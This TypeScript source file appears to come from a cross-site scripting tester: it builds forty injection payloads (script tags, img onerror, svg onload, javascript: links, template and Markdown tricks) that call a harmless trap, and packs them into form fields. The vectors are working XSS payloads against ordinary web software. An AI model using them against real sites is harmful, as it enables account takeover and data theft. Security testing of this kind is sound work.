/**
 * The prefix that a page's trap prints to the console when a payload runs, followed by its number.
 */
export const RAN = 'XSS-RAN-';
/**
 * Returns the call of the trap with the numbers of the field and the payload. It is as short as
 * possible, so that short fields hold it too.
 */
const callOf = (field: number, index: number): string => `R(${field * 100 + index + 1})`;
/** Returns the numbers of the trap calls that a text contains. */
export const callsIn = (text: string): number[] =>
  [...text.matchAll(/\bR\((\d{3,5})\)/g)].map(([, number]) => Number(number));
type Idea = readonly [idea: string, make: (run: string) => string];
const IDEAS: readonly Idea[] = [
  ['a script', (run) => `<script>${run}</script>`],
  ['a script in other letters', (run) => `<ScRiPt >${run}</sCrIpT>`],
  ['a script that ends another', (run) => `</script><script>${run}</script>`],
  ['a script behind a title', (run) => `</title><script>${run}</script>`],
  ['a script behind a text area', (run) => `</textarea><script>${run}</script>`],
  ['a script behind a comment', (run) => `--><script>${run}</script>`],
  ['a script in a script that is taken out', (run) => `<scr<script>ipt>${run}</script>`],
  ['a module', (run) => `<script type=module>${run}</script>`],
  ['a script from data', (run) => `<script src="data:,${run}"></script>`],
  [
    'a script in base64',
    (run) =>
      `<script src=data:text/javascript;base64,${Buffer.from(run).toString('base64')}></script><!--${run}-->`,
  ],
  ['a picture that fails', (run) => `<img src=x onerror=${run}>`],
  ['a picture that fails, quoted', (run) => `"><img src=x onerror="${run}">`],
  ['a picture that fails, in single quotes', (run) => `'><img src=x onerror='${run}'>`],
  ['a picture with a slash for a space', (run) => `<img/src=x/onerror=${run}>`],
  ['a drawing that loads', (run) => `<svg onload=${run}>`],
  ['a drawing with a script', (run) => `<svg><script>${run}</script></svg>`],
  ['a drawing that moves', (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`],
  [
    'a drawing with a link',
    (run) => `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a>`,
  ],
  ['a formula', (run) => `<math><mtext></mtext><img src onerror=${run}></math>`],
  ['a body', (run) => `<body onload=${run}>`],
  ['details that open', (run) => `<details open ontoggle=${run}>`],
  ['a field in focus', (run) => `<input autofocus onfocus=${run}>`],
  ['a video without a source', (run) => `<video><source onerror=${run}></video>`],
  ['a frame', (run) => `<iframe src="javascript:${run}"></iframe>`],
  ['a frame of its own', (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`],
  ['an object', (run) => `<object data="javascript:${run}"></object>`],
  ['an embedded thing', (run) => `<embed src="javascript:${run}">`],
  ['a form', (run) => `<form action="javascript:${run}"><button>x</button></form>`],
  ['another base', (run) => `<base href="javascript:/*"><a href="*/${run}">x</a>`],
  ['a page that goes on', (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`],
  ['a style that was a script', (run) => `<style onload=${run}></style>`],
  ['a link', (run) => `<a href="javascript:${run}">x</a>`],
  ['a link of Markdown', (run) => `[x](javascript:${run})`],
  ['a picture of Markdown', (run) => `![x"onerror="${run}](x)`],
  ['a bare address', (run) => `javascript:${run}`],
  ['a web address that breaks out', (run) => `https://a.b/"onmouseover="${run}"x="`],
  ['a web address with a tag', (run) => `https://a.b/<img src=x onerror=${run}>`],
  ['an attribute', (run) => `" autofocus onfocus="${run}" x="`],
  ['what a template would run', (run) => `{{constructor.constructor('${run}')()}}\${${run}}`],
  ['entities', (run) => `&lt;img src=x onerror=${run}&gt;&#60;script&#62;${run}&#60;/script&#62;`],
];
/** Our own corpus: forty ways in which text becomes a script, with the number of the field. */
const payloadsFor = (field: number): { text: string; call: number }[] =>
  IDEAS.map(([, make], index) => ({
    text: make(callOf(field, index)),
    call: field * 100 + index + 1,
  }));
export const PAYLOAD_COUNT = IDEAS.length;
export const SOME_PAYLOADS = payloadsFor(1)
  .slice(0, 6)
  .map(({ text }) => text)
  .join(' ');

export type Pack = { text: string; calls: number[] };
/**
 * Packs a field's payloads into as few texts of the given length as possible, starting with a
 * different payload in each field. Omits a payload that is too long by itself or matches `without`.
 */
export function packsFor(field: number, length: number, without?: RegExp): Pack[] {
  const packs: Pack[] = [];
  const all = payloadsFor(field);
  const from = (field * 7) % all.length;
  for (const { text, call } of [...all.slice(from), ...all.slice(0, from)]) {
    const last = packs.at(-1);
    if (text.length > length || without?.test(text) === true) continue;
    if (last !== undefined && last.text.length + text.length < length)
      packs[packs.length - 1] = { text: `${last.text} ${text}`, calls: [...last.calls, call] };
    else packs.push({ text, calls: [call] });
  }
  return packs;
}
